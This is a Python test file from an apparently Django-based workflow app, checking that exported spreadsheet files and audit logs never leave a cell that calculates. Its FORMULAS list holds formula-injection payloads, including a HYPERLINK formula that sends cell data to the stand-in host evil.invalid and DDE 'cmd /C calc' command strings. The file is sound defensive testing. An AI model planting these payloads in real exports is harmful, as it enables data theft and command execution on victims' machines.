"""Formulas in files for spreadsheets: whatever an engine or a person calls something, no cell of any file begins to calculate."""

import csv
import io
import re

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from tests import users as people
from tests.resources import samples
from tests.stub_engine import StubEngine, identity
from tests.users import Users
from workflows_ui.audit.services import audit_log
from workflows_ui.audit.services.audit_log import Actor
from workflows_ui.lists.file_formats import escape_formulas
from workflows_ui.members.models import Flavour
from workflows_ui.resource_admin.resource import Resource
from workflows_ui.resources import RESOURCES
from workflows_ui.tables import views as table_views

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "harmless;=1+1",
    "two\n=1+1",
    'quoted",=1+1',
]
#: How spreadsheets part cells: at commas, and at semicolons or tabs where a comma stands in numbers.
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


#: A number, and a text of digits and signs that stays one (`file_formats`).
_HARMLESS = re.compile(r'-?\d+([.,]\d+)?|="[\d.,:/ eE%+-]+"')
FILES = ("csv", "semicolon", "data")


def running(content: bytes, kind: str = "csv") -> list[str]:
    """The cells that would calculate, as a spreadsheet with commas reads the file, and as one with semicolons does."""
    text = content.decode("utf-8-sig")
    separator = ";" if kind == "semicolon" else ","
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    found = [cell for cell in cells if cell.startswith(_STARTS) and not _HARMLESS.fullmatch(cell)]
    others = r"[,;\t\r\n]" if kind == "semicolon" else r"[;\t\r\n]"
    return found + re.findall(rf"(?<={others})[=+@＝＋＠].*", text)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_no_text_stays_a_formula(formula: str) -> None:
    file = io.StringIO()
    csv.writer(file).writerow([escape_formulas(formula)])
    assert running(file.getvalue().encode()) == []
    for kind in FILES:
        made = table_views.content(kind, {"name": "x", "fields": [formula], "types": {}, "rows": [{formula: formula}]})
        assert running(made, kind) == []
    book = CalamineWorkbook.from_filelike(
        io.BytesIO(table_views.content("xlsx", {"name": "x", "fields": ["A"], "types": {}, "rows": [{"A": formula}]}))
    )
    assert book.get_sheet_by_index(0).to_python()[1:] == [[formula]]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
@pytest.mark.sampled(4)
def test_no_name_becomes_a_formula_in_any_file(
    users: Users, owner: Client, stub_engine: StubEngine, formula: str
) -> None:
    here: Resource
    for here in RESOURCES:
        sample = samples.sample_for(here)
        imbrace = sample.flavour == Flavour.IMBRACE
        flavour, address = (
            (Flavour.IMBRACE, stub_engine.url) if imbrace else (Flavour.ACTIVEPIECES, f"{stub_engine.url}/api")
        )
        people.move(users.workspace, flavour=flavour, address=address)
        sample.fill(stub_engine, formula)
        for kind in FILES:
            answer = owner.get(f"{here.url('sales')}export/{kind}/")
            if answer.status_code == 404:
                answer = owner.get(here.url("sales").replace("/w/sales/", "/w/sales/export/") + f"{kind}/")
            assert running(answer.content, kind) == [], here.name
    audit_log.record(
        Actor(users.owner, address=None),
        "flows.rename",
        workspace=users.workspace,
        object_type="flows",
        object_id=identity(1),
        object_name=formula,
        reason=formula,
        before=formula,
    )
    for kind in FILES:
        answer = owner.get(f"/w/sales/audit/file/{kind}/")
        assert running(b"".join(answer), kind) == []


def test_the_check_finds_what_it_looks_for() -> None:
    for text in ("=1", "a;=1", '"two\n=1"', "＝1", "-1+1"):
        assert running(text.encode()), text
    assert running(b"-1,2,-3.5,'=1\n") == []
